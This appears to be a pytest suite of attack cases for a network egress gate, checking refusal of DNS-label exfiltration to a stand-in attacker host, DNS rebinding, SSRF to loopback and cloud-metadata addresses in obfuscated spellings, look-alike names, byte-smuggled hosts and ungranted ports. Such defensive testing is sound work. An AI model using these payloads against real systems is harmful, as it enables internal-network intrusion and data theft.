"""Attack cases on names and addresses (threats.md §2, 26, 29, 31–36, 38): who is meant, and where that leads."""

from __future__ import annotations

import json

import pytest

from tests.attack.operators import Bottle, Operator
from tests.attack.probes import NETWORK, SHOW, judged
from tests.attack.world import ABSENT, API, EVIL, INWARD, PUBLIC, REBOUND
from tests.waiting import eventually

# Every way a name can be said to the gate; each is given a name (bytes) and reports what came back.
WAYS = r"""
def by_connect(name, port=443):
    return refused_connect(name + b":%d" % port)
def by_host(name):
    return raw(b"GET / HTTP/1.1\r\nHost: " + name + b"\r\nConnection: close\r\n\r\n", ("198.18.0.2", 80))
def by_url(name):
    return raw(b"GET http://" + name + b"/ HTTP/1.1\r\nHost: " + name + b"\r\nConnection: close\r\n\r\n")
def hello(extensions):
    body = b"\3\3" + bytes(32) + b"\0" + struct.pack(">H", 2) + b"\x13\x01" + b"\1\0"
    body += struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(message)) + message
def extension(kind, value):
    return struct.pack(">HH", kind, len(value)) + value
def server_name(name, kind=0):
    entry = bytes([kind]) + struct.pack(">H", len(name)) + name
    return extension(0, struct.pack(">H", len(entry)) + entry)
def by_sni(name):
    return raw(hello(server_name(name)), ("198.18.0.2", 443))
WAYS = {"connect": by_connect, "host": by_host, "url": by_url, "sni": by_sni}
"""


def said_every_way(bottle: Bottle, names: list[bytes]) -> dict[str, list[str]]:
    """What each way of saying each name led to."""
    source = f"""{NETWORK}{WAYS}
for name in {names!r}:
    for way, say in WAYS.items():
        attempt(f"{{way}} {{name!r}}", lambda: say(name))
{SHOW}"""
    return judged(bottle.python(source))


def nothing_left(bottle: Bottle) -> None:
    assert [(one.port, one.name, bytes(one.data)) for one in bottle.world.servers.arrived()] == []
    assert bottle.world.names.asked() == []


def refused(found: dict[str, list[str]], *reasons: str) -> dict[str, list[str]]:
    """Those that were not refused for one of `reasons` (by TLS: an alert; a name that no hello can carry: 400)."""
    allowed = {"alert", *(f"403 {reason}" for reason in reasons), *(f"400 {reason}" for reason in reasons)}
    return {name: outcome for name, outcome in found.items() if not set(outcome) <= allowed}


@pytest.mark.threat(29, 30)
def test_case_29_a_name_that_is_not_granted_carries_no_data_out(bottle: Bottle) -> None:
    data = "736b2d7468652d6f70657261746f7273"
    names = [f"{data}.attacker.test", EVIL, f"{data}.{API}", f"{data}.www.{EVIL}"]
    found = said_every_way(bottle, [name.encode() for name in names])
    assert refused(found, "host_not_granted") == {}
    source = f"""{NETWORK}
for name in {names!r}:
    for kind in (socket.AF_INET, socket.AF_INET6):
        attempt(f"{{name}} {{kind}}", lambda: lookup(name, kind))
{SHOW}"""
    assert set(bottle.python(source).values()) == {"no such name"}
    nothing_left(bottle)

    def recorded() -> bool:
        denied = [one for one in bottle.decisions() if not one["allow"] and one["reason"] == "host_not_granted"]
        return {one.get("host") for one in denied} >= set(names) <= {one.get("name") for one in denied}

    eventually(recorded)


@pytest.mark.threat(28, 29)
def test_case_28_no_type_of_query_and_no_other_resolver_gets_an_answer_from_outside(bottle: Bottle) -> None:
    source = f"""{NETWORK}
def query(name, kind, extra=b""):
    wire = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return b"\\x12\\x34\\x01\\0\\0\\1" + bytes(6) + wire + b"\\0" + struct.pack(">HH", kind, 1) + extra
def ask(address, wire, stream):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
    s.settimeout(WAIT)
    s.connect((address, 53))
    s.send((struct.pack(">H", len(wire)) if stream else b"") + wire)
    answer = s.recv(4096)[2 if stream else 0:]
    s.close()
    return [answer[3] & 15, answer[6] << 8 | answer[7]]
for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 64, 65, 99, 252, 255):
    for stream in (False, True):
        attempt(f"127.0.0.1 {{kind}} {{stream}}", lambda: ask("127.0.0.1", query("73656372.attacker.test", kind), stream))
for address in ("127.0.0.11", "127.0.0.53", "8.8.8.8", "1.1.1.1", "198.18.0.1", "172.17.0.1", "169.254.169.254"):
    for stream in (False, True):
        attempt(f"{{address}} {{stream}}", lambda: ask(address, query(EVIL, 1), stream))
{SHOW}"""
    seen = bottle.python(source)
    own = [answer for name, answer in seen.items() if name.startswith("127.0.0.1 ")]
    assert own == [[3, 0]] * len(own)
    assert [name for name, answer in seen.items() if not name.startswith("127.0.0.1 ") and answer[0] != "!"] == []
    nothing_left(bottle)


@pytest.mark.threat(26, 31)
@pytest.mark.parametrize("port", [443, 80])
def test_case_31_a_granted_name_that_leads_inwards_is_not_dialled(bottle: Bottle, port: int) -> None:
    source = f"""{NETWORK}
def ask(name):
    what = request("/", name)
    return tls(what, name) if {port} == 443 else raw(what, (name, 80))
for name in {list(INWARD)!r}:
    attempt(name, lambda: ask(name))
{SHOW}"""
    found = judged(bottle.python(source))
    assert set(map(tuple, found.values())) == {("403 address_refused",)}, found
    assert bottle.world.servers.arrived() == []


@pytest.mark.threat(31)
def test_case_31_a_name_that_is_rebound_is_checked_each_time_it_is_dialled(bottle: Bottle) -> None:
    names, servers = bottle.world.names, bottle.world.servers
    names.turns[REBOUND] = [[f"{PUBLIC}.99"], ["127.0.0.1"]]
    servers.answers[b"/rebound"] = b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\nconnection: close\r\n\r\nhello"
    source = f"""{NETWORK}
attempt("first", lambda: tls(request("/rebound", REBOUND), REBOUND))
attempt("second", lambda: tls(request("/rebound", REBOUND), REBOUND))
attempt("third", lambda: raw(request("/rebound", REBOUND), (REBOUND, 80)))
{SHOW}"""
    found = judged(bottle.python(source))
    assert found == {"first": ["200"], "second": ["403 address_refused"], "third": ["403 address_refused"]}
    assert [one.name for one in servers.arrived()] == [REBOUND]


@pytest.mark.threat(31)
def test_case_31_of_several_addresses_only_the_public_ones_are_dialled(bottle: Bottle) -> None:
    """With nobody at the public one: the private one beside it is not tried instead."""
    bottle.world.names.turns[REBOUND] = [["10.1.2.3", "127.0.0.1", "203.0.114.9", "::1"]]
    source = f"""{NETWORK}
attempt("mixed", lambda: tls(request("/", REBOUND), REBOUND))
{SHOW}"""
    assert judged(bottle.python(source)) == {"mixed": ["502 upstream_failed"]}
    assert bottle.world.servers.arrived() == []


ADDRESSES = [
    b"127.0.0.1", b"127.1", b"0x7f.1", b"0177.0.0.1", b"017700000001", b"2130706433", b"0x7f000001", b"127.0.0.1.",
        b"10.1.2.3",
    b"0", b"0.0.0.0", b"169.254.169.254", b"93.184.216.10", b"[::1]", b"::1", b"[::ffff:10.1.2.3]", b"[fe80::1%25lo]",
    b"[fe80::1%lo]", b"[64:ff9b::a9fe:a9fe]", "１２７.0.0.1".encode(), "127。0。0。1".encode(), b"1.1.1.0x1",
]  # fmt: skip


@pytest.mark.threat(26, 32)
def test_case_32_an_address_in_any_spelling_is_not_a_name(bottle: Bottle) -> None:
    assert refused(said_every_way(bottle, ADDRESSES), "bad_host", "bad_request") == {}
    nothing_left(bottle)


NO_HOSTS = [
    "127.1", "0x7f.1", "2130706433", "::1", "10.0.0.0/8", "localhost", "api.localhost", "metadata.google.internal",
    "host.docker.internal", "metadata", "", " ", "*", "*.com", "*.test", "com", "a@b.test", "https://b.test",
        "b..test",
    "b.test/x", "b.test:443", "bücher.test", "b\u0000.test", "b.test\n", "bottle.internal", None, [], 1, {},
]  # fmt: skip
EMPTY: list[object] = [
    {"egress": None}, {"egress": ""}, {"egress": [""]}, {"egress": [None]}, {"egress": ["*"]}, {"egress": {}},
        {"egress": [{}]},
    {"egress": [[]]}, {"egress": "all"}, {"egress": True}, {"egress": [{"preset": ""}]}, {"Egress": []}, None, [],
    {"egress": [{"host": API, "methods": []}]}, {"egress": [{"host": API, "paths": []}]}, {"egress": [{"host": API,
        "paths": [""]}]},
    {"egress": [{"host": API, "methods": [""]}]}, {"egress": [{"host": API, "port": None}]},
        {"egress": [{"host": API, "port": 0}]},
    {"egress": [{"host": API, "paths": ["**"]}]}, {"egress": [{"host": API, "methods": ["*"]}]},
]  # fmt: skip


@pytest.mark.threat(30, 32, 33, 35, 36)
def test_case_36_what_is_empty_or_wide_grants_nothing_or_is_refused(operator: Operator) -> None:
    """32, 33, 35: nor can an address, a reserved name or a look-alike be granted, whatever else stands in the manifest."""
    wide = [{"egress": [{"host": API}, {"host": host}]} for host in NO_HOSTS]
    assert operator.refused_bottles([*EMPTY, *wide]) == list(range(len(EMPTY) + len(wide)))
    assert operator.refused_bottles([{}, {"egress": []}, {"egress": [{"host": API}]}]) == []


@pytest.mark.threat(36)
def test_case_36_a_bottle_that_grants_nothing_reaches_nothing(operator: Operator) -> None:
    operator.world.clear()
    with operator.start("closed") as closed:
        found = said_every_way(closed, [API.encode(), EVIL.encode(), b"localhost"])
        assert refused(found, "host_not_granted") == {}
        source = f"""{NETWORK}
attempt("lookup", lambda: lookup(API))
attempt("policy", lambda: raw(request("/policy", "bottle.internal"), ("127.0.0.1", 80)))
{SHOW}"""
        seen = closed.python(source)
        assert seen["lookup"] == "no such name"
        assert json.loads(seen["policy"].split("\r\n\r\n")[1])["granted"] == []
        nothing_left(closed)


@pytest.mark.threat(31)
def test_case_31_a_name_is_looked_up_as_it_stands_and_in_no_search_domain(bottle: Bottle) -> None:
    """The host's resolv.conf has a search domain in which whoever owns it could answer for any name that has no address."""
    source = f"""{NETWORK}
attempt("absent", lambda: tls(request("/", {ABSENT!r}), {ABSENT!r}))
{SHOW}"""
    assert judged(bottle.python(source)) == {"absent": ["502 resolve_failed"]}
    assert set(bottle.world.names.asked()) <= {ABSENT}
    assert bottle.world.servers.arrived() == []


@pytest.mark.threat(33, 37)
def test_case_33_names_of_this_machine_its_engine_and_its_cloud_are_refused(bottle: Bottle) -> None:
    names = [
        b"localhost", b"localhost.", b"LOCALHOST", b"localhost.localdomain", b"api.localhost", b"ip6-localhost", b"bottle",
        b"host.docker.internal", b"gateway.docker.internal", b"host.containers.internal", b"kubernetes.default.svc",
        b"metadata.google.internal", b"metadata", b"instance-data.ec2.internal", b"metadata.goog",
            b"docker.for.mac.localhost",
    ]  # fmt: skip
    assert refused(said_every_way(bottle, names), "host_not_granted") == {}
    nothing_left(bottle)


@pytest.mark.threat(34)
def test_case_34_a_byte_that_some_parser_ends_or_splits_a_name_at_is_refused(bottle: Bottle) -> None:
    good, evil = API.encode(), EVIL.encode()
    between = [b"\0", b"%00", b"\x01", b"\x7f", b"\x0b", b"\x0c", b"\t", b" ", b"%20", b"%0d%0a", b"\r", b"\xa0",
        b"\xad", b"%2e",
               b"\x80", b"/", b"\\", b"#", b"?", b",", b";", "\u200b".encode(), "\uff0e".encode()]  # fmt: skip
    names = [good + one + evil for one in between] + [evil + one + good for one in between]
    found = said_every_way(bottle, names)
    # In a URL the first slash, question or number sign ends the authority: what is before it is judged, the rest is path.
    found = {name: outcome for name, outcome in found.items() if not (name.startswith("url")
        and outcome == ["403 name_mismatch"])}
    assert refused(found, "bad_host", "bad_request", "host_not_granted") == {}
    nothing_left(bottle)


@pytest.mark.threat(30, 35)
def test_case_35_only_the_exact_name_counts(bottle: Bottle) -> None:
    good = API.encode()
    likes = [
        b"evil" + good, good + b".evil.test", b"x." + good, b"bottle.test", b"test", good + b"@evil.test",
            b"evil.test@" + good,
        b"evil.test#@" + good, b"." + good, good + b"..", good.replace(b".", b"-"), b"api_bottle.test", b"*." + good,
        good.replace(b"o", "о".encode()), b"xn--" + good, good[:-1], b"api.bottle.tes", good + b"%2eevil.test",
    ]  # fmt: skip
    assert refused(said_every_way(bottle, likes), "bad_host", "bad_request", "host_not_granted", "name_mismatch") == {}
    nothing_left(bottle)


@pytest.mark.threat(35)
def test_case_35_a_root_dot_and_capitals_are_the_same_name_and_leave_as_one_spelling(bottle: Bottle) -> None:
    source = f"""{NETWORK}
attempt("capitals", lambda: tls(request("/v1/a", API.upper() + "."), API, API.upper()))
s, _ = connect(API.upper() + ".:443")
attempt("connect", lambda: once(secure(s, API.upper()), request("/v1/b", API.title())))
{SHOW}"""
    assert judged(bottle.python(source)) == {"capitals": ["200"], "connect": ["200"]}
    assert [one.split(b"\r\n")[1] for one in bottle.world.servers.requests()] == [b"host: " + API.encode()] * 2


@pytest.mark.threat(38)
def test_case_38_a_granted_host_on_another_port_is_refused(bottle: Bottle) -> None:
    source = f"""{NETWORK}
for port in (1, 22, 80, 444, 2375, 5432, 8080, 65535):
    attempt(f"connect {{port}}", lambda: refused_connect(f"{{API}}:{{port}}"))
for port in ("0", "65536", "-1", "+443", "443x", "0443", "", " 443", "0x1bb", "４４３"):
    attempt(f"port {{port}}", lambda: refused_connect(f"{{API}}:{{port}}"))
for port in (80, 8080, 8443):
    attempt(f"url {{port}}", lambda: raw(request(f"http://{{API}}:{{port}}/v1/x", f"{{API}}:{{port}}")))
attempt("plain", lambda: raw(request(), (API, 80)))
attempt("host", lambda: tls(request(host=API + ":80")))
attempt("host with a port", lambda: tls(request(host=API + ":8443")))
attempt("database", lambda: raw(b"SSH-2.0-x\\r\\n\\r\\n", (API, 5432)))
attempt("database in http", lambda: raw(request("/", API + ":5432"), (API, 5432)))
{SHOW}"""
    found = judged(bottle.python(source))
    wrong = {name: found.pop(name) for name in list(found) if name.startswith("port ")}
    assert {tuple(outcome) for outcome in wrong.values()} <= {("400 bad_request",), ("403 bad_host",)}, wrong
    assert found.pop("host with a port") == ["403 name_mismatch"]
    assert found.pop("database") == ["400 bad_request"]
    assert found.pop("url 8443") == ["403 path_not_granted"]
    assert set(map(tuple, found.values())) == {("403 port_not_granted",)}, found
    nothing_left(bottle)
